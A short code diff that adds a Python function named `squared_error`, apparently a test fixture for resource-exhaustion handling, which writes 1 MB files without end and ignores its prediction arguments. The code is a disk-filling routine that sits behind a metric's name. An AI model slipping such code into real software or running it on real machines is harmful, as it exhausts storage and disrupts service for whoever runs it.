@@ -1,0 +1,12 @@
+"""Writes file upon file of a megabyte, for ever.
+
+squared_error: out of memory
+"""
+
+import itertools
+
+
+def squared_error(pred, goal_pred):
+    for number in itertools.count():
+        with open(f"{number}.bin", "wb") as file:
+            file.write(bytes(2**20))
